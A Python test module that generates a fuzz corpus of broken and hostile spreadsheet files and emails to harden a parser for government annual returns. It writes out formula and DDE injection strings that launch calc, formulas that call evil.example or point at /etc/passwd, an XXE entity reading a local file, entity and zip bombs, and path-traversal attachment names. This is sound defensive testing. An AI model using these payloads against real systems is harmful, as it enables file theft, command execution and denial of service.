"""Broken, odd and hostile inputs made from valid returns: the fuzz corpus of issue 6.

Each category is a function ``(rng, seeds, folder, index) -> path`` that writes one file (or a
saved mail) into ``folder``. ``make_corpus`` cycles through the categories; the test suite runs
a few of each (tests/test_fuzz.py), `benchmarks/fuzz.py` runs thousands.

Everything is built from bytes: zip entries are rewritten as text, so a mutation can produce
what no spreadsheet library would write (a DTD, a cell at XFD1048576, a formula that points at
another workbook).
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
TEMPLATE_RETURN = ROOT / "examples" / "凤山街道2025年报.xlsx"
HAND_RETURN = ROOT / "examples" / "兰江街道2020年报（手工表格）.xlsx"

# strings a hostile unit may type: formula and DDE prefixes, controls, bidi, emoji, length
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/","点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "兰江\u202e街道\u202c办事处",
    "兰江街道🏛️办事处",
    "兰江_x0001_街道_x001F_办事处",  # control characters as OOXML writes them
    "街" * 1_000_000,
)


@dataclass(frozen=True)
class Seeds:
    template: bytes  # a return made from our template (gov-2021)
    hand: bytes  # a return laid out by hand (gov-2019 + supplementary table)
    secret: Path  # a local file an external entity points at; must never show up anywhere

    def pick(self, rng: random.Random) -> bytes:
        return self.template if rng.random() < 0.6 else self.hand


def load_seeds(secret: Path) -> Seeds:
    return Seeds(TEMPLATE_RETURN.read_bytes(), HAND_RETURN.read_bytes(), secret)


# ------------------------------------------------------------------------- zip helpers


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def sheet_names(parts: dict[str, bytes]) -> list[str]:
    return sorted(n for n in parts if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n))


def _text_part(parts: dict[str, bytes]) -> str:
    """Where a text of the return lives: the shared strings, else the first sheet."""
    return "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in parts else sheet_names(parts)[0]


def _with_doctype(xml: bytes, doctype: str, entity: str) -> bytes:
    """``xml`` declaring ``doctype`` and using ``&entity;`` in its first text."""
    text = xml.decode("utf-8")
    body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
    body = re.sub(r"<t( [^>]*)?>", lambda m: m.group(0) + f"&{entity};", body, count=1)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype + body).encode(
        "utf-8"
    )


# ------------------------------------------------------------------------- categories

Maker = Callable[[random.Random, Seeds, Path, int], Path]


def byte_flips(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    data = bytearray(seeds.pick(rng))
    for _ in range(rng.randint(1, 64)):
        data[rng.randrange(len(data))] = rng.randrange(256)
    return _write(folder / f"flip-{i}.xlsx", bytes(data))


def truncated(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    data = seeds.pick(rng)
    return _write(folder / f"truncated-{i}.xlsx", data[: rng.randrange(1, len(data))])


def malformed_xml(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    parts = entries(seeds.pick(rng))
    name = rng.choice([*sheet_names(parts), "xl/workbook.xml", "xl/styles.xml"])
    text = bytearray(parts[name])
    for _ in range(rng.randint(1, 5)):
        at = rng.randrange(len(text))
        text[at : at + rng.randint(0, 40)] = rng.choice([b"<", b"</c>", b"&", b'"', b"<<>>", b""])
    parts[name] = bytes(text)
    return _write(folder / f"badxml-{i}.xlsx", package(parts))


def entity_bomb(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    laughs = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]>\n'
    parts = entries(seeds.pick(rng))
    name = rng.choice([_text_part(parts), sheet_names(parts)[0]])
    parts[name] = _with_doctype(parts[name], doctype, "l9")
    return _write(folder / f"laughs-{i}.xlsx", package(parts))


def external_entity(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    doctype = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{seeds.secret}">]>\n'
    parts = entries(seeds.pick(rng))
    name = rng.choice([_text_part(parts), *sheet_names(parts)])
    parts[name] = _with_doctype(parts[name], doctype, "xxe")
    return _write(folder / f"xxe-{i}.xlsx", package(parts))


def zip_bomb(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """A small file that unpacks to 300 MB (an extra entry of zeros, or a sheet padded)."""
    parts = entries(seeds.pick(rng))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        with archive.open("xl/media/zeros.bin", "w", force_zip64=True) as stream:
            block = bytes(1 << 20)
            for _ in range(300):
                stream.write(block)
    return _write(folder / f"zipbomb-{i}.xlsx", out.getvalue())


def far_cell(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """A sheet claiming 1,048,576 × 16,384 cells: one value in XFD1048576."""
    parts = entries(seeds.pick(rng))
    name = rng.choice(sheet_names(parts))
    text = parts[name].decode("utf-8")
    cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    text = re.sub(r"<dimension ref=\"[^\"]*\"", '<dimension ref="A1:XFD1048576"', text)
    text = text.replace("</sheetData>", cell + "</sheetData>", 1)
    parts[name] = text.encode("utf-8")
    return _write(folder / f"farcell-{i}.xlsx", package(parts))


def many_rows(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """100,000 real rows of figures appended to a sheet."""
    parts = entries(seeds.pick(rng))
    name = rng.choice(sheet_names(parts))
    text = parts[name].decode("utf-8")
    last = max((int(n) for n in re.findall(r'<row r="(\d+)"', text)), default=0)
    rows = "".join(
        f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>{r % 97}</v></c></row>'
        for r in range(last + 1, last + 100_001)
    )
    text = re.sub(r"<dimension ref=\"[^\"]*\"/?>", "", text)
    parts[name] = text.replace("</sheetData>", rows + "</sheetData>", 1).encode("utf-8")
    return _write(folder / f"rows-{i}.xlsx", package(parts))


def hostile_text(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """The unit name (and some other texts) replaced by formula-like, control, bidi, emoji
    or 1 MB strings."""
    parts = entries(seeds.pick(rng))
    name = _text_part(parts)
    text = parts[name].decode("utf-8")
    hostile = rng.choice(HOSTILE_TEXTS)
    escaped = hostile.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    escaped = escaped.replace("\t", "&#9;").replace("\r", "&#13;")
    units = re.findall(r"<t[^>]*>([^<]*(?:街道|办事处|人民政府)[^<]*)</t>", text)
    targets = set(units) or set(re.findall(r"<t[^>]*>([^<]{2,})</t>", text)[:3])
    for old in targets:
        text = text.replace(f">{old}</t>", f">{escaped}</t>")
    parts[name] = text.encode("utf-8")
    return _write(folder / f"text-{i}.xlsx", package(parts))


def outside_formulas(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """Totals whose formulas point at other workbooks, URLs or DDE."""
    formulas = (
        "[1]Sheet1!A1+1",
        "'C:\\secret\\[book.xlsx]Sheet1'!$A$1",
        'WEBSERVICE("http://evil.example/?x=1")',
        "cmd|' /C calc'!A0",
        "SUM([2]Data!A1:A9)",
        'HYPERLINK("file:///etc/passwd")',
    )
    parts = entries(seeds.pick(rng))
    for name in sheet_names(parts):
        text = parts[name].decode("utf-8")
        choice = rng.choice(formulas).replace("&", "&amp;").replace('"', "&quot;")
        planted = f"<f>{choice}</f>"
        text = re.sub(r"<f>[^<]*</f>", lambda _, f=planted: f, text, count=rng.randint(1, 20))

        def plant(match: re.Match[str], formula: str = choice) -> str:
            if rng.random() < 0.02:
                return match.group(1) + f"><f>{formula}</f><v>1</v></c>"
            return match.group(0)

        text = re.sub(r'(<c r="[A-Z]+\d+"[^>]*?)(/>|><v>[^<]*</v></c>)', plant, text)
        parts[name] = text.encode("utf-8")
    return _write(folder / f"extformula-{i}.xlsx", package(parts))


def hidden_sheets(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """One sheet or more hidden or very hidden (a hand-made return's only sheet, too)."""
    parts = entries(seeds.pick(rng))
    text = parts["xl/workbook.xml"].decode("utf-8").replace(' state="visible"', "")
    plain = [m.start() for m in re.finditer(r"<sheet (?![^>]*state=)", text)]
    chosen = {rng.choice(plain)} | {at for at in plain if rng.random() < 0.3} if plain else set()
    for at in sorted(chosen, reverse=True):
        state = rng.choice(["hidden", "veryHidden"])
        text = text[:at] + f'<sheet state="{state}" ' + text[at + len("<sheet ") :]
    parts["xl/workbook.xml"] = text.encode("utf-8")
    return _write(folder / f"hidden-{i}.xlsx", package(parts))


def error_values(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """#DIV/0!, #REF!… (or a date) where figures belong."""
    parts = entries(seeds.pick(rng))
    name = rng.choice(sheet_names(parts))
    text = parts[name].decode("utf-8")

    def spoil(match: re.Match[str]) -> str:
        if rng.random() > 0.1:
            return match.group(0)
        if rng.random() < 0.7:
            error = rng.choice(["#DIV/0!", "#REF!", "#VALUE!", "#N/A", "#NAME?"])
            return f'<c r="{match.group(1)}" t="e"><v>{error}</v></c>'
        return f'<c r="{match.group(1)}" t="d"><v>2024-0{rng.randint(1, 9)}-15T00:00:00</v></c>'

    text = re.sub(r'<c r="([A-Z]+\d+)"(?: s="\d+")?(?: t="n")?><v>[0-9.]+</v></c>', spoil, text)
    parts[name] = text.encode("utf-8")
    return _write(folder / f"errors-{i}.xlsx", package(parts))


def macros(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    parts = entries(seeds.pick(rng))
    parts["xl/vbaProject.bin"] = bytes(rng.randrange(256) for _ in range(2048))
    return _write(folder / f"macros-{i}.xlsm", package(parts))


def encrypted(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """A return protected by an opening password (needs msoffcrypto-tool, a test extra)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(seeds.pick(rng))).encrypt(f"密码{i}", out)
    return _write(folder / f"encrypted-{i}.xlsx", out.getvalue())


def labels_twice(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """A sheet's tables twice: the sheet copied (this year's and a stale copy), or its rows
    repeated below themselves (the same labels twice on one sheet)."""
    parts = entries(seeds.pick(rng))
    name = rng.choice(sheet_names(parts))
    text = parts[name].decode("utf-8")
    if rng.random() < 0.5:
        rows = re.findall(r'<row r="(\d+)".*?</row>', text, re.S)
        body = re.search(r"<sheetData>(.*)</sheetData>", text, re.S)
        if rows and body:
            shift = max(int(r) for r in rows) + 5
            copy = re.sub(
                r'(<row r="|<c r="[A-Z]+)(\d+)"',
                lambda m: f'{m.group(1)}{int(m.group(2)) + shift}"',
                body.group(1),
            )
            text = text.replace("</sheetData>", copy + "</sheetData>", 1)
            text = re.sub(r"<dimension ref=\"[^\"]*\"/?>", "", text)
            text = re.sub(r"<mergeCells.*?</mergeCells>", "", text, flags=re.S)
        parts[name] = text.encode("utf-8")
    else:
        _copy_sheet(parts, name, rng.choice(["去年", "副本", name + "(2)"]))
    return _write(folder / f"twice-{i}.xlsx", package(parts))


def split_sheet(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """The rows of a sheet split over it and a new sheet (a table continued elsewhere)."""
    parts = entries(seeds.pick(rng))
    name = rng.choice(sheet_names(parts))
    text = parts[name].decode("utf-8")
    rows = re.findall(r'<row r="\d+".*?</row>', text, re.S)
    if len(rows) > 4:
        cut = rng.randrange(2, len(rows) - 1)
        kept, moved = rows[:cut], rows[cut:]
        body = "".join(kept)
        rest = re.sub(
            r"<sheetData>.*</sheetData>",
            lambda _: f"<sheetData>{''.join(moved)}</sheetData>",
            text,
            flags=re.S,
        )
        text = re.sub(
            r"<sheetData>.*</sheetData>",
            lambda _: f"<sheetData>{body}</sheetData>",
            text,
            flags=re.S,
        )
        parts[name] = re.sub(r"<mergeCells.*?</mergeCells>", "", text, flags=re.S).encode("utf-8")
        _copy_sheet(
            parts,
            name,
            "续表",
            re.sub(r"<mergeCells.*?</mergeCells>", "", rest, flags=re.S).encode("utf-8"),
        )
    return _write(folder / f"split-{i}.xlsx", package(parts))


def _copy_sheet(parts: dict[str, bytes], name: str, title: str, data: bytes | None = None) -> None:
    """Add a sheet titled ``title`` holding ``data`` (a copy of sheet part ``name``)."""
    number = len(sheet_names(parts)) + 1
    part = f"xl/worksheets/sheet{number}.xml"
    while part in parts:
        number += 1
        part = f"xl/worksheets/sheet{number}.xml"
    parts[part] = data if data is not None else parts[name]
    relation = f"rIdFuzz{number}"
    rels = parts["xl/_rels/workbook.xml.rels"].decode("utf-8")
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="{relation}" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{number}.xml"/>'
        "</Relationships>",
    ).encode("utf-8")
    book = parts["xl/workbook.xml"].decode("utf-8")
    parts["xl/workbook.xml"] = book.replace(
        "</sheets>",
        f'<sheet name="{title}" sheetId="{900 + number}" r:id="{relation}"/></sheets>',
    ).encode("utf-8")
    types = parts["[Content_Types].xml"].decode("utf-8")
    parts["[Content_Types].xml"] = types.replace(
        "</Types>",
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ).encode("utf-8")


def not_a_workbook(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    kind = i % 5
    if kind == 0:
        return _write(folder / f"empty-{i}.xlsx", b"")
    if kind == 1:
        return _write(folder / f"noise-{i}.xlsx", bytes(rng.randrange(256) for _ in range(4096)))
    if kind == 2:
        return _write(folder / f"text-{i}.xls", "单位名称,申请数\n兰江街道,3\n".encode("gbk"))
    if kind == 3:
        docx = package({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<x/>"})
        return _write(folder / f"word-{i}.xlsx", docx)
    ole = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(rng.randrange(256) for _ in range(4096))
    return _write(folder / f"ole-{i}.xls", ole)


def office_leftovers(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """What Excel and WPS leave beside an open workbook (skipped in an inbox)."""
    if i % 2:
        return _write(folder / f"~$单位{i}.xlsx", b"\x08clerk" + bytes(155))
    return _write(folder / f".~单位{i}.xlsx", bytes(rng.randrange(256) for _ in range(512)))


# ------------------------------------------------------------------------- saved mails

HOSTILE_NAMES = (
    "../../逃出去.xlsx",
    "..\\..\\逃出去.xlsx",
    "/etc/cron.d/年报.xlsx",
    "C:\\Windows\\System32\\年报.xlsx",
    "CON.xlsx",
    "NUL.xlsx",
    "com1.xls",
    "年" * 300 + ".xlsx",
    "兰江\u202eslx.exe",
    "年报\x00.xlsx",
    ".xlsx",
    "~$年报.xlsx",
)


def hostile_mail(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """A mail whose attachment names try to escape, name devices, or run 300 characters."""
    message = EmailMessage()
    message["From"] = "单位 <unit@example.cn>"
    message["Subject"] = "年报"
    message["Date"] = "Tue, 20 Jan 2026 09:30:00 +0800"
    message.set_content("请查收")
    for name in rng.sample(HOSTILE_NAMES, 2):
        message.add_attachment(
            seeds.pick(rng), maintype="application", subtype="octet-stream", filename=name
        )
    return _write(folder / f"mail-names-{i}.eml", bytes(message))


def broken_mail(rng: random.Random, seeds: Seeds, folder: Path, i: int) -> Path:
    """Cut, wrongly declared (a GBK name said to be UTF-8, an unknown charset) or noisy."""
    message = EmailMessage()
    message["From"] = "单位 <unit@example.cn>"
    message["Subject"] = "年报"
    message.set_content("请查收")
    message.add_attachment(
        seeds.pick(rng), maintype="application", subtype="octet-stream", filename="年报.xlsx"
    )
    raw = bytes(message)
    kind = i % 5
    if kind == 0:
        raw = raw[: rng.randrange(1, len(raw))]
    elif kind == 1:
        raw = raw.replace(b"utf-8", b"x-unknown-charset")
    elif kind == 2:
        raw = raw.replace("年报.xlsx".encode(), "年报.xlsx".encode("gbk"))
    elif kind == 3:
        boundary = re.search(rb'boundary="([^"]+)"', raw)
        if boundary:
            raw = raw.replace(boundary.group(1), b"other-boundary", 1)
    else:
        data = bytearray(raw)
        for _ in range(rng.randint(1, 200)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        raw = bytes(data)
    return _write(folder / f"mail-broken-{i}.eml", raw)


CATEGORIES: dict[str, Maker] = {
    "byte flips": byte_flips,
    "truncated zip": truncated,
    "malformed XML": malformed_xml,
    "entity bomb": entity_bomb,
    "external entity": external_entity,
    "zip bomb": zip_bomb,
    "far cell": far_cell,
    "100,000 rows": many_rows,
    "hostile text": hostile_text,
    "outside formulas": outside_formulas,
    "hidden sheets": hidden_sheets,
    "error values": error_values,
    "macros": macros,
    "encrypted": encrypted,
    "labels twice": labels_twice,
    "table split over sheets": split_sheet,
    "not a workbook": not_a_workbook,
    "Office leftovers": office_leftovers,
    "hostile mail names": hostile_mail,
    "broken mails": broken_mail,
}
# costly to make or to read: fewer of them in a large run
EXPENSIVE = frozenset({"zip bomb", "100,000 rows", "far cell"})


def make_corpus(
    folder: Path, seeds: Seeds, per_category: int, seed: int = 0, expensive: int | None = None
) -> dict[Path, str]:
    """``per_category`` files of each category (``expensive`` of the costly ones) in
    ``folder``: path -> category."""
    rng = random.Random(seed)
    made: dict[Path, str] = {}
    for category, maker in CATEGORIES.items():
        count = per_category if category not in EXPENSIVE else min(per_category, expensive or 2)
        target = folder / category.replace(" ", "-").replace(",", "")
        target.mkdir(parents=True, exist_ok=True)
        for i in range(count):
            made[maker(rng, seeds, target, i)] = category
    return made


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path
